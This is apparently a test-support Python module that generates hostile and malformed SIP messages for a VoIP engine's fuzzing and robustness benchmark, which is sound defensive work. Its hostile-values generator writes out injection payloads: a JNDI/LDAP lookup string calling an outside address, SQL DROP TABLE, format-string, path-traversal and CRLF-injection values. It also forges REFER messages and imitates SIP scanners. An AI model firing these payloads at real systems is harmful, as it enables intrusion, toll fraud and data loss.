"""Hostile and malformed SIP messages, generated deterministically from a seed.

Our own generator for issue #8's robustness test (`tests/integration/test_sip_hostile.py`, a
bounded corpus in CI) and benchmark (`bench/sip_hostile.py`, any size). Every message is a
`Sample` of one `kind`; `corpus(n, seed, target)` returns `n` of them, cycling through every
kind so that even a small corpus holds each one:

- truncated messages (cut anywhere, also inside the request line and the SDP);
- oversize header values and lines (up to 60 KB for UDP, 200 KB for TCP);
- bad `Content-Length` (negative, huge, not a number, too short, too long, repeated);
- broken SDP (garbage, absurd ports and payload types, a thousand `m=` lines, no `c=`);
- invalid UTF-8, NUL bytes and control characters in the request line, headers and body;
- thousands of `Via` headers (900 for UDP, 5,000 for TCP), and deep header folding;
- unknown, lower-case and absurdly long methods, bad SIP versions, responses nobody asked for;
- mid-dialog requests (BYE, ACK, INFO, UPDATE, PRACK, CANCEL, re-INVITE) for dialogs that do not
  exist, REFER and NOTIFY (`Event: refer`, a sipfrag claiming success) forgeries, re-INVITEs
  that move the media elsewhere or change codecs;
- hostile values in valid structure: huge or odd Request-URI users, format strings, SQL and
  CRLF-injection attempts, scanner User-Agents (`friendly-scanner`, `sipvicious`, …).

Requests that parse name an extension that does not exist (`Target.unknown_extension`), so
that none of them becomes a call that holds a slot; re-INVITEs into a live dialog are sent by
the test's own `Dialog`, not from here. Pure: no I/O.
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable
from dataclasses import dataclass

UDP_MAX = 65_000  # bytes in one datagram we send (IPv4 UDP payload is at most 65,507)


@dataclass(frozen=True)
class Target:
    host: str  # the engine's SIP address
    port: int
    source_host: str  # where the messages come from (Via, Contact)
    source_port: int
    unknown_extension: str = "0999000"
    transport: str = "UDP"

    @property
    def hostport(self) -> str:
        return f"{self.host}:{self.port}"


@dataclass(frozen=True)
class Sample:
    kind: str
    data: bytes
    stream_only: bool = False  # too large for one UDP datagram

    def fits_udp(self) -> bool:
        return len(self.data) <= UDP_MAX


def _token(rng: random.Random, n: int = 10) -> str:
    return "".join(rng.choice(string.ascii_lowercase + string.digits) for _ in range(n))


def _branch(rng: random.Random) -> str:
    return "z9hG4bK" + _token(rng, 16)


SDP = (
    "v=0\r\n"
    "o=- {sess} 1 IN IP4 {host}\r\n"
    "s=-\r\n"
    "c=IN IP4 {host}\r\n"
    "t=0 0\r\n"
    "m=audio {port} RTP/AVP 0 101\r\n"
    "a=rtpmap:0 PCMU/8000\r\n"
    "a=rtpmap:101 telephone-event/8000\r\n"
    "a=fmtp:101 0-16\r\n"
)


def sdp(rng: random.Random, host: str, port: int | None = None) -> str:
    return SDP.format(
        sess=rng.randrange(1, 2**31), host=host, port=port or rng.randrange(10000, 60000, 2)
    )


def request(
    rng: random.Random,
    t: Target,
    method: str = "INVITE",
    *,
    user: str | None = None,
    body: str | bytes = "",
    content_type: str = "application/sdp",
    extra: list[str] | None = None,
    call_id: str | None = None,
    to_tag: str | None = None,
    cseq: int = 1,
    content_length: str | None = None,
    user_agent: str = "fuzz-uac",
    from_user: str = "fuzz",
    from_tag: str | None = None,
) -> bytes:
    """A well-formed request (unless the caller's pieces make it otherwise)."""
    user = t.unknown_extension if user is None else user
    body_bytes = body.encode() if isinstance(body, str) else body
    to = f"<sip:{user}@{t.hostport}>" + (f";tag={to_tag}" if to_tag else "")
    lines = [
        f"{method} sip:{user}@{t.hostport} SIP/2.0",
        f"Via: SIP/2.0/{t.transport} {t.source_host}:{t.source_port};branch={_branch(rng)};rport",
        "Max-Forwards: 70",
        f"From: <sip:{from_user}@{t.source_host}>;tag={from_tag or _token(rng)}",
        f"To: {to}",
        f"Call-ID: {call_id or _token(rng, 20) + '@fuzz'}",
        f"CSeq: {cseq} {method}",
        f"Contact: <sip:fuzz@{t.source_host}:{t.source_port}>",
        f"User-Agent: {user_agent}",
        *(extra or []),
    ]
    if body_bytes:
        lines.append(f"Content-Type: {content_type}")
    length = str(len(body_bytes)) if content_length is None else content_length
    lines.append(f"Content-Length: {length}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8", "surrogateescape") + body_bytes


# --- the kinds --------------------------------------------------------------------------------

Generator = Callable[[random.Random, Target], Sample]


def truncated(rng: random.Random, t: Target) -> Sample:
    whole = request(rng, t, body=sdp(rng, t.source_host))
    return Sample("truncated", whole[: rng.randrange(1, len(whole))])


def oversize_header(rng: random.Random, t: Target) -> Sample:
    stream = rng.random() < 0.3
    size = rng.randrange(60_000, 200_000) if stream else rng.randrange(4_000, 60_000)
    name = rng.choice(["Subject", "X-Junk", "User-Agent", "Contact", "Call-ID", "Supported"])
    value = rng.choice(["A", "%", ";", "<", " "]) * size
    if name == "Contact":
        value = f"<sip:{'a' * size}@{t.source_host}>"
    return Sample(
        "oversize_header", request(rng, t, extra=[f"{name}: {value}"]), stream_only=stream
    )


def bad_content_length(rng: random.Random, t: Target) -> Sample:
    body = sdp(rng, t.source_host)
    length = rng.choice(
        [
            "-1",
            "-2147483648",
            "4294967296",
            "99999999999999999999999",
            "abc",
            "",
            "0x10",
            "1e3",
            str(len(body) + rng.randrange(1, 5000)),
            str(max(0, len(body) - rng.randrange(1, len(body)))),
            f"{len(body)}\r\nContent-Length: 5",
            f"{len(body)}\r\nl: 9999",
        ]
    )
    return Sample("bad_content_length", request(rng, t, body=body, content_length=length))


def broken_sdp(rng: random.Random, t: Target) -> Sample:
    host = t.source_host
    choice = rng.randrange(8)
    if choice == 0:
        body = "".join(rng.choice(string.printable) for _ in range(rng.randrange(1, 800)))
    elif choice == 1:
        body = sdp(rng, host).replace("m=audio ", f"m=audio {rng.choice(['-1', '99999', 'x'])}X")
    elif choice == 2:
        body = sdp(rng, host).replace("RTP/AVP 0 101", "RTP/AVP " + " ".join(["300"] * 200))
    elif choice == 3:
        media = "".join(f"m=audio {10000 + 2 * i} RTP/AVP 0\r\n" for i in range(1000))
        body = sdp(rng, host) + media
    elif choice == 4:
        body = sdp(rng, host).replace(f"c=IN IP4 {host}\r\n", "")
    elif choice == 5:
        body = sdp(rng, host).replace(f"c=IN IP4 {host}", "c=IN IP4 999.999.999.999")
    elif choice == 6:
        body = "v=0\r\n" + "a=" + "x" * rng.randrange(1000, 30000) + "\r\n"
    else:
        body = sdp(rng, host).replace("\r\n", rng.choice(["\n", "\r", "\x00", ""]))
    return Sample("broken_sdp", request(rng, t, body=body))


def bad_bytes(rng: random.Random, t: Target) -> Sample:
    whole = bytearray(request(rng, t, body=sdp(rng, t.source_host)))
    junk = [b"\x00", b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\x80", b"\x1b[2J", b"\x7f"]
    for _ in range(rng.randrange(1, 12)):
        at = rng.randrange(0, len(whole))
        whole[at:at] = rng.choice(junk)
    return Sample("bad_bytes", bytes(whole))


def many_vias(rng: random.Random, t: Target) -> Sample:
    stream = rng.random() < 0.3
    count = rng.randrange(2000, 5000) if stream else rng.randrange(100, 900)
    vias = [
        f"Via: SIP/2.0/UDP 10.{i % 250}.{i // 250 % 250}.1:5060;branch={_branch(rng)}"
        for i in range(count)
    ]
    return Sample("many_vias", request(rng, t, extra=vias), stream_only=stream)


def folded_headers(rng: random.Random, t: Target) -> Sample:
    folds = "".join(f"\r\n {_token(rng, 5)}" for _ in range(rng.randrange(10, 2000)))
    return Sample("folded_headers", request(rng, t, extra=[f"Subject: start{folds}"]))


def unknown_method(rng: random.Random, t: Target) -> Sample:
    method = rng.choice(
        [
            "FOO",
            "XYZZY",
            "invite",
            "INVITE\x00",
            "GET",
            "PUBLISH",
            "A" * rng.randrange(100, 5000),
            "IN VITE",
            "",
        ]
    )
    data = request(rng, t, method=method)
    if rng.random() < 0.3:
        data = data.replace(b"SIP/2.0", rng.choice([b"SIP/3.0", b"SIP/2", b"HTTP/1.1", b""]), 1)
    return Sample("unknown_method", data)


def stray_response(rng: random.Random, t: Target) -> Sample:
    code = rng.choice(["200 OK", "180 Ringing", "487 Terminated", "999 Nine", "0 X", "20 OK"])
    data = request(rng, t, method="INVITE")
    _, rest = data.split(b"\r\n", 1)
    return Sample("stray_response", f"SIP/2.0 {code}".encode() + b"\r\n" + rest)


def unknown_dialog(rng: random.Random, t: Target) -> Sample:
    method = rng.choice(["BYE", "ACK", "INFO", "UPDATE", "PRACK", "CANCEL", "INVITE", "OPTIONS"])
    body = ""
    content_type = "application/sdp"
    if method == "INFO":
        body, content_type = "Signal=1\r\nDuration=160\r\n", "application/dtmf-relay"
    elif method in ("INVITE", "UPDATE"):
        body = sdp(rng, "192.0.2.1", 4000)  # media moved elsewhere
    data = request(
        rng,
        t,
        method=method,
        user="800",
        to_tag=_token(rng),
        cseq=rng.randrange(2, 2**31),
        body=body,
        content_type=content_type,
    )
    return Sample("unknown_dialog", data)


def forged_refer_notify(rng: random.Random, t: Target) -> Sample:
    if rng.random() < 0.5:
        extra = [f"Refer-To: <sip:{rng.choice(['900', '0044123456', '*97'])}@198.51.100.7>"]
        data = request(rng, t, method="REFER", user="800", to_tag=_token(rng), extra=extra)
    else:
        extra = ["Event: refer", "Subscription-State: terminated;reason=noresource"]
        data = request(
            rng,
            t,
            method="NOTIFY",
            user="800",
            to_tag=rng.choice([_token(rng), None]),
            body="SIP/2.0 200 OK\r\n",
            content_type="message/sipfrag;version=2.0",
            extra=extra,
        )
    return Sample("forged_refer_notify", data)


def hostile_values(rng: random.Random, t: Target) -> Sample:
    user = rng.choice(
        [
            "%s%s%s%n",
            "'; DROP TABLE call_records;--",
            "${jndi:ldap://198.51.100.7/a}",
            "0" * 300,
            "+" * 1000,
            "..%2f..%2fetc%2fpasswd",
            f"{t.unknown_extension}%00",
            f"{t.unknown_extension};user=phone",
            "",
        ]
    )
    extra = [
        rng.choice(
            [
                "X-Session-ID: " + "'" * 500,
                "X-Session-ID: \u202e\u0000bad",
                "Subject: a\r\nInjected: 1",
                "Max-Forwards: -1",
                "Max-Forwards: 99999999999",
                "CSeq: 4294967296 INVITE",
                "Expires: -5",
            ]
        )
    ]
    agent = rng.choice(["fuzz-uac", "", "\u00e9\u00e8" * 50, "x" * 2000, "friendly-scanner"])
    return Sample(
        "hostile_values",
        request(rng, t, user=user, extra=extra, user_agent=agent, body=sdp(rng, t.source_host)),
    )


def scanner(rng: random.Random, t: Target) -> Sample:
    method = rng.choice(["OPTIONS", "REGISTER", "INVITE"])
    agent = rng.choice(["friendly-scanner", "sipvicious 0.3.4", "sipcli/v1.8", "sundayddr"])
    user = rng.choice(["100", "1000", "800", "0011972", t.unknown_extension])
    body = sdp(rng, t.source_host) if method == "INVITE" else ""
    return Sample("scanner", request(rng, t, method=method, user=user, user_agent=agent, body=body))


def random_bytes(rng: random.Random, t: Target) -> Sample:
    n = rng.randrange(1, 3000)
    return Sample("random_bytes", bytes(rng.randrange(256) for _ in range(n)))


KINDS: tuple[Generator, ...] = (
    truncated,
    oversize_header,
    bad_content_length,
    broken_sdp,
    bad_bytes,
    many_vias,
    folded_headers,
    unknown_method,
    stray_response,
    unknown_dialog,
    forged_refer_notify,
    hostile_values,
    scanner,
    random_bytes,
)


def sample(index: int, seed: int, target: Target) -> Sample:
    """Message `index` of the corpus `seed` for `target`: kinds in turn, each message drawn
    from a stream of its own (so any one can be rebuilt, e.g. with another source port)."""
    kind = KINDS[index % len(KINDS)]
    return kind(random.Random(seed * 1_000_003 + index), target)


def corpus(count: int, seed: int, target: Target) -> list[Sample]:
    return [sample(i, seed, target) for i in range(count)]


def reinvite(
    rng: random.Random,
    t: Target,
    *,
    user: str,
    call_id: str,
    from_tag: str,
    to_tag: str,
    cseq: int,
) -> bytes:
    """A re-INVITE in a live dialog (ours) that moves or changes the media."""
    host = rng.choice(["192.0.2.1", "0.0.0.0", t.source_host, "::1", "999.1.1.1"])
    choice = rng.randrange(5)
    body = sdp(rng, t.source_host if ":" in host or "999" in host else host)
    if choice == 1:
        body = body.replace("RTP/AVP 0 101", "RTP/AVP 8").replace(
            "a=rtpmap:0 PCMU", "a=rtpmap:8 PCMA"
        )
    elif choice == 2:
        body += "a=sendonly\r\n"
    elif choice == 3:
        body = body.replace("RTP/AVP 0 101", "RTP/AVP 18 97")
    elif choice == 4:
        body = body.replace(f"IN IP4 {t.source_host}", f"IN IP4 {host}")
    lines = [
        f"INVITE sip:{user}@{t.hostport} SIP/2.0",
        f"Via: SIP/2.0/{t.transport} {t.source_host}:{t.source_port};branch={_branch(rng)};rport",
        "Max-Forwards: 70",
        f"From: <sip:9999@{t.source_host}>;tag={from_tag}",
        f"To: <sip:{user}@{t.hostport}>;tag={to_tag}",
        f"Call-ID: {call_id}",
        f"CSeq: {cseq} INVITE",
        f"Contact: <sip:fuzz@{t.source_host}:{t.source_port}>",
        "Content-Type: application/sdp",
        f"Content-Length: {len(body)}",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n" + body).encode()
